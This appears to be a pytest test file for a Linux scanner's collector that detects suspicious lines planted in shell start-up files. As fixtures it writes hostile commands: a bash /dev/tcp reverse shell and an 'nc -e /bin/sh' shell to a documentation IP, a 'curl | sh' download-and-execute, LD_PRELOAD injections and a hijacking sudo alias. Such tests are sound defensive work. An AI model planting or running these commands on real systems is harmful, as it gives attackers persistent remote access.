"""linux.shell on planted lines in shell start-up files."""

from __future__ import annotations

from pathlib import Path

import pytest
from linux_fakeroot import ALICE_HOME, BASHRC, debian_root, make_host, write

from safecheck.core.entries import Entry
from safecheck.scan.collectors.base import CollectorResult
from safecheck.scan.collectors.linux.shellrc import ShellCollector


@pytest.fixture
def root(tmp_path: Path) -> Path:
    return debian_root(tmp_path)


def collect(root: Path) -> CollectorResult:
    result = ShellCollector().collect(make_host(root))
    assert result.errors == []
    return result


def test_reverse_shell_appended_to_bashrc(root: Path) -> None:
    path = f"{ALICE_HOME}/.bashrc"
    write(root, path, BASHRC + "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1 &  # keep\n")
    (entry,) = collect(root).entries
    assert entry == Entry(
        collector="linux.shell",
        kind="shell-line",
        location=path,
        name=".bashrc",
        command="bash -i >& /dev/tcp/203.0.113.7/4444 0>&1 &",
        program="bash",
        line=BASHRC.count("\n") + 1,
        user="alice",
        enabled=True,
        modified=make_host(root).modified(path),
        details=(("reason", "network-shell"),),
    )


def test_ld_preload_in_etc_environment(root: Path) -> None:
    write(root, "/etc/environment", 'PATH="/usr/local/sbin:/usr/bin"\nLD_PRELOAD=/lib/libkeys.so\n')
    (entry,) = collect(root).entries
    assert (entry.location, entry.line, entry.user, entry.program, entry.detail("reason")) == (
        "/etc/environment",
        2,
        None,
        "/lib/libkeys.so",
        "ld-preload",
    )


def test_each_kind_of_line(root: Path) -> None:
    write(
        root,
        "/etc/profile.d/99-sync.sh",
        "curl -fsSL https://x.example/i.sh \\\n  | sh\n",
    )
    write(root, f"{ALICE_HOME}/.profile", "nohup /home/alice/.cache/.a/agent >/dev/null 2>&1 &\n")
    write(root, f"{ALICE_HOME}/.config/fish/conf.d/z.fish", "set -gx LD_PRELOAD /tmp/x.so\n")
    write(root, f"{ALICE_HOME}/.xprofile", "exec /opt/spy/bin/spyd --hidden\n")
    write(root, f"{ALICE_HOME}/.zshrc", "alias sudo='/tmp/.s/sudo'\nalias ll='ls -l'\n")
    entries = collect(root).entries
    assert [(e.location, e.line, e.detail("reason"), e.program) for e in entries] == [
        ("/etc/profile.d/99-sync.sh", 1, "download-exec", "curl"),
        (f"{ALICE_HOME}/.profile", 1, "background", "/home/alice/.cache/.a/agent"),
        (f"{ALICE_HOME}/.zshrc", 1, "program", "/tmp/.s/sudo"),
        (f"{ALICE_HOME}/.xprofile", 1, "program", "/opt/spy/bin/spyd"),
        (f"{ALICE_HOME}/.config/fish/conf.d/z.fish", 1, "ld-preload", "/tmp/x.so"),
    ]
    assert entries[0].command == "curl -fsSL https://x.example/i.sh   | sh"


def test_same_file_by_two_names_is_read_once(root: Path) -> None:
    write(root, "/etc/zsh/zshrc", "nc -e /bin/sh 203.0.113.7 80\n")
    (root / "etc/zshrc").symlink_to("zsh/zshrc")
    result = collect(root)
    assert [e.location for e in result.entries] == ["/etc/zsh/zshrc"]
